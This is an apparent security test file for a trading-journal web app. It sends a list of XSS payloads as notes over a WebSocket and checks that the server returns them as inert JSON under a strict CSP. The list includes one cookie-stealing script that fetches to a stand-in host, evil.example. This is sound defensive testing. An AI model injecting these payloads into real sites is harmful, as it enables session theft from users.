import WebSocket from 'ws';
import { WS_COACH_PATH } from '@tt/shared';
import { TEST_ORIGIN } from '../../apps/bff/src/modules/auth/auth.test-support';
import type { Section } from '../lib/report';
import type { AppUnderTest } from './app-under-test';
import type { Trader } from './fixtures';
import { gradeCsp } from './observatory/csp';

export const XSS_PAYLOADS = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "javascript:alert('x')",
  '</textarea><script>fetch("//evil.example/"+document.cookie)</script>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '{{constructor.constructor("alert(1)")()}}',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '\u2028<script>alert(1)</script>\u2029',
];

/** Adds notes over the coach socket (`note.add`), the way the web app does, and collects the acks. */
async function addNotes(aut: AppUnderTest, owner: Trader, tradeId: string, texts: string[]) {
  const ws = new WebSocket(`${aut.base.replace('http', 'ws')}${WS_COACH_PATH}`, {
    headers: { cookie: `__Host-tt_session=${owner.sessionToken}`, origin: TEST_ORIGIN },
  });
  const acks = new Map<string, { type: string; note?: { text: string } }>();
  ws.on('message', (data) => {
    const message = JSON.parse(String(data)) as { type: string; requestId?: string; note?: { text: string } };
    if (message.requestId) acks.set(message.requestId, message);
  });
  await new Promise<void>((resolve, reject) => {
    ws.once('open', () => resolve());
    ws.once('error', reject);
  });
  // One at a time, as a person types them: a socket may have only a few messages in flight.
  for (const [i, text] of texts.entries()) {
    const requestId = `xss-${i}-abcdefgh`;
    ws.send(JSON.stringify({ type: 'note.add', requestId, tradeId, text }));
    const deadline = Date.now() + 5000;
    while (!acks.has(requestId) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
  }
  ws.close();
  return acks;
}

/**
 * Script in journal notes is stored as text and handed back as JSON, exactly as written; no answer
 * of the server renders it as HTML (not even when HTML is what the client asks for), and the page's
 * CSP would refuse an inline script anyway.
 */
export async function storedXss(section: Section, aut: AppUnderTest, owner: Trader): Promise<void> {
  const tradeId = owner.tradeId!;
  const acks = await addNotes(aut, owner, tradeId, XSS_PAYLOADS);
  section.equal(
    'every note was accepted (ack)',
    [...acks.values()].filter((a) => a.type === 'ack').length,
    XSS_PAYLOADS.length,
  );
  for (const accept of ['application/json', 'text/html,application/xhtml+xml']) {
    const res = await owner.client.request({
      method: 'GET',
      url: `/api/trades/${tradeId}`,
      headers: { accept },
    });
    const type = String(res.headers['content-type']);
    section.check(
      `GET /api/trades/:id (Accept: ${accept}) answers JSON, never HTML`,
      type.startsWith('application/json'),
      { type },
    );
    section.equal(
      `GET /api/trades/:id (Accept: ${accept}) X-Content-Type-Options`,
      res.headers['x-content-type-options'],
      'nosniff',
    );
    const notes = (res.json() as { notes: { text: string }[] }).notes.map((n) => n.text);
    section.check(
      `GET /api/trades/:id (Accept: ${accept}) returns every payload exactly as written`,
      XSS_PAYLOADS.every((p) => notes.includes(p)),
      {
        missing: XSS_PAYLOADS.filter((p) => !notes.includes(p)),
      },
    );
  }
  const exported = await owner.client.request({ method: 'GET', url: '/api/me/export' });
  section.check(
    'the data export is a JSON attachment',
    String(exported.headers['content-type']).startsWith('application/json') &&
      /attachment/.test(String(exported.headers['content-disposition'])),
    {
      type: exported.headers['content-type'],
      disposition: exported.headers['content-disposition'],
    },
  );
  const page = await owner.client.request({
    method: 'GET',
    url: `/trades/${encodeURIComponent(XSS_PAYLOADS[0]!)}`,
  });
  section.check(
    'the SPA fallback does not reflect the URL into the page',
    !page.body.includes('<script>alert'),
    { status: page.statusCode },
  );
  const csp = gradeCsp([String(page.headers['content-security-policy'])], [], undefined, true);
  const scriptSrc = [...(csp.policy?.get('script-src') ?? [])];
  section.check(
    "the page's CSP allows no inline or eval'd script",
    !scriptSrc.some((s) => ["'unsafe-inline'", "'unsafe-eval'", 'data:', '*'].includes(s)),
    { scriptSrc },
  );
}
